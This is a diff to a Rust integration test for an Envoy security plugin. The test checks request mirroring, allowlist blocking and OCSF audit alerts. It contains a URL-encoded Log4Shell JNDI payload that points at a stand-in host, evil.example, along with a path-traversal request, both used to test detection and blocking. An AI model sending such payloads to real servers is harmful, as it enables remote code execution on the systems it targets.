@@ -250,11 +250,13 @@ fn demo_config_does_what_make_run_prints() {
     assert_eq!(get("/api/orders/42"), 200, "mirrored by rule, still served");
     let jndi = "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
     assert_eq!(get(jndi), 200, "mirrored by signature, still served");
+    let attack = "/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
+    assert_eq!(get(attack), 403, "a blocked attack");
 
     // "each request also yields an OCSF audit record, POSTed to the collector"
     let deadline = Instant::now() + WAIT;
     let mut records: Vec<Value> = Vec::new();
-    while records.len() < 5 && Instant::now() < deadline {
+    while records.len() < 6 && Instant::now() < deadline {
         records = collector
             .bodies()
             .iter()
@@ -268,7 +270,7 @@ fn demo_config_does_what_make_run_prints() {
             .collect();
         std::thread::sleep(Duration::from_millis(100));
     }
-    assert_eq!(records.len(), 5, "one audit record per request");
+    assert_eq!(records.len(), 6, "one audit record per request");
     // What the mirror filter decided for each request, to explain a wrong copy.
     let decisions: Vec<String> = records
         .iter()
@@ -280,10 +282,11 @@ fn demo_config_does_what_make_run_prints() {
         })
         .collect();
 
-    // The rule and the signature always mirror; the demo policy also samples a share of the
-    // rest (deterministically on x-request-id), so /api/items may be there too, but then only
-    // because the mirror filter said "sample".
-    let copies = sensor.wait_for(2, WAIT);
+    // The rule and the signatures always mirror, the denied requests with a signature too (the
+    // demo is one plugin: its signatures see what its allowlist blocks); the demo policy also
+    // samples a share of the rest (deterministically on x-request-id), so /api/items may be
+    // there too, but then only because the mirror said "sample".
+    let copies = sensor.wait_for(4, WAIT);
     let mirrored: Vec<_> = copies.iter().map(|r| r.path.as_str()).collect();
     assert!(mirrored.contains(&"/api/orders/42"), "{decisions:#?}");
     assert!(mirrored.contains(&jndi), "{decisions:#?}");
@@ -299,17 +302,31 @@ fn demo_config_does_what_make_run_prints() {
             assert_eq!(decision["reason"], "sample", "{decisions:#?}");
         }
     }
-    for denied in ["/admin", "/api/../admin"] {
-        assert!(
-            !mirrored.contains(&denied),
-            "a refused request was mirrored: {decisions:#?}"
-        );
+    assert!(
+        !mirrored.contains(&"/admin"),
+        "a refused request without a signature was mirrored: {decisions:#?}"
+    );
+    // Blocked attacks reach the sensor, sent by the plugin, and the collector as alerts.
+    for blocked in ["/api/../admin", attack] {
+        let copy = copies
+            .iter()
+            .find(|c| c.path == blocked)
+            .unwrap_or_else(|| panic!("blocked attack {blocked} not copied: {decisions:#?}"));
+        assert_eq!(copy.header("x-meshsight-mirror-reason"), Some("signature"));
+        let record = records
+            .iter()
+            .find(|r| {
+                r["http_request"]["url"]["url_string"] == format!("http://localhost{blocked}")
+            })
+            .unwrap_or_else(|| panic!("no audit record for {blocked}: {decisions:#?}"));
+        assert_eq!(record["disposition"], "Blocked", "{record}");
+        assert_eq!(record["is_alert"], true, "{record}");
     }
     let stats = envoy
         .admin_get("/stats?filter=meshsight")
         .expect("admin stats");
     assert!(
-        stats.text().contains("meshsight_allowlist_denied: 2"),
+        stats.text().contains("meshsight_allowlist_denied: 3"),
         "{}",
         stats.text()
     );
